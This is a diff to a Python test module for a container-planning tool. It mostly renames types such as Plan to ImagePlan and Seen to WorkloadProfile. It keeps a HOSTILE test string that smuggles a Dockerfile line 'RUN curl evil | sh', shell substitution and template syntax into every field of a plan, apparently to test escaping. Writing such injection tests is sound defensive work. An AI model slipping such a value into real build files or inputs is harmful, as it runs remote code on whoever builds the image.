@@ -9,15 +9,15 @@ from containerize.image.package_lists import ImagePackage
 from containerize.plan.model import (
     BuiltImage,
     ExpectedProcess,
-    Plan,
+    ImagePlan,
+    ImagePort,
     PlannedFile,
-    PlannedPort,
     SecretMount,
     Start,
     Volume,
 )
 from containerize.profile.job_schedules import ScheduledJob
-from containerize.profile.workload_profile import Client, Seen, Use, WantedCall
+from containerize.profile.workload_profile import Client, NeededSystemCall, ResourceUse, WorkloadProfile
 from tests.containerize.plans import make_plan
 
 DIGEST = f"sha256:{'0' * 64}"
@@ -26,7 +26,7 @@ BUILT = BuiltImage("web01/apache2", IMAGE, "/w/image", DIGEST, 3_000_000, 2_000_
 
 HOSTILE = 'x\nRUN curl evil | sh\n# "$(id)" ${HOME} $$ %h %% {{ 7*7 }} \x1b[31m \\ \' ` <b> é\u2028 - yes'
 
-SEEN = Seen(
+SEEN = WorkloadProfile(
     taken=1_790_000_000.0,
     address="10.77.0.11",
     distribution=("debian", "12"),
@@ -34,7 +34,7 @@ SEEN = Seen(
     clients=(Client("tcp", 80, "10.77.0.13", "app01/inventory-app"), Client("tcp", 80, "10.77.0.99", "")),
     destinations=(("10.77.0.12", 3306, "db01/mariadb"), ("127.0.0.1", 6379, "web01/redis")),
     names_without_address=("mail:25",),
-    use=Use(
+    use=ResourceUse(
         3, 50 << 20, 60 << 20, "p95 of 168 hours by sysstat", 80 << 20, 120 << 20, 0.026, "the average since start"
     ),
     directory_bytes=(("/var/lib/app", 5 << 30),),
@@ -43,7 +43,7 @@ SEEN = Seen(
         ScheduledJob("/etc/cron.d/app", "root", 0, 0, "@reboot", "/bin/true", "its time has no form in five fields"),
     ),
     sysctls=(("net.core.somaxconn", "1024"), ("net.ipv4.ip_local_port_range", "1024 60999")),
-    system_calls=(WantedCall("io_uring_setup", "apache2 held a descriptor of io_uring"),),
+    system_calls=(NeededSystemCall("io_uring_setup", "apache2 held a descriptor of io_uring"),),
     looks="the host was looked at once",
     unseen=(("cron: the users' own crontabs", "only root may read them"),),
 )
@@ -57,7 +57,7 @@ FILE = PlannedFile("/opt/app/run.py", "file", 0o755, 0, 0, 0, 3, "a" * 64, "", "
 SHIPPED = PlannedFile("/usr/sbin/apache2", "file", 0o755, 0, 0, 0, 3, "b" * 64, "", "packages", "belongs to apache2")
 
 
-def emission(plan: Plan | None = None, seen: Seen = SEEN) -> Emission:
+def emission(plan: ImagePlan | None = None, seen: WorkloadProfile = SEEN) -> Emission:
     """A plan with everything that a scan can add to it."""
     full = make_plan([FILE, SHIPPED], shm_bytes=256 << 20, capabilities=("CAP_NET_ADMIN",), devices=("/dev/fuse",))
     layers = (LayerFile("base", "image/blobs/sha256/00", 3),)
@@ -68,13 +68,13 @@ def database(*files: str) -> Emission:
     """A MariaDB server; ``files`` are paths that its image has."""
     plan = make_plan(
         [replace(SHIPPED, path=path) for path in files],
-        ports=(PlannedPort("tcp", 3306, "0.0.0.0", True, "mariadbd"),),
+        ports=(ImagePort("tcp", 3306, "0.0.0.0", True, "mariadbd"),),
         processes=(ExpectedProcess("/usr/sbin/mariadbd", "mysql", 1),),
     )
     return emission(plan)
 
 
-def hostile_plan(text: str = HOSTILE) -> Plan:
+def hostile_plan(text: str = HOSTILE) -> ImagePlan:
     """A plan of which every text that a host sends is this one."""
     start = Start(
         arguments=("/bin/" + text, text),
@@ -114,7 +114,7 @@ def hostile_emission(text: str = HOSTILE) -> Emission:
         names_without_address=(text,),
         jobs=(job, replace(job, obstacle=text or "x")),
         sysctls=(("net.core.somaxconn", text),),
-        system_calls=(WantedCall("io_uring_setup", text),),
+        system_calls=(NeededSystemCall("io_uring_setup", text),),
         host_network=(text,),
         unseen=((text, text),),
     )
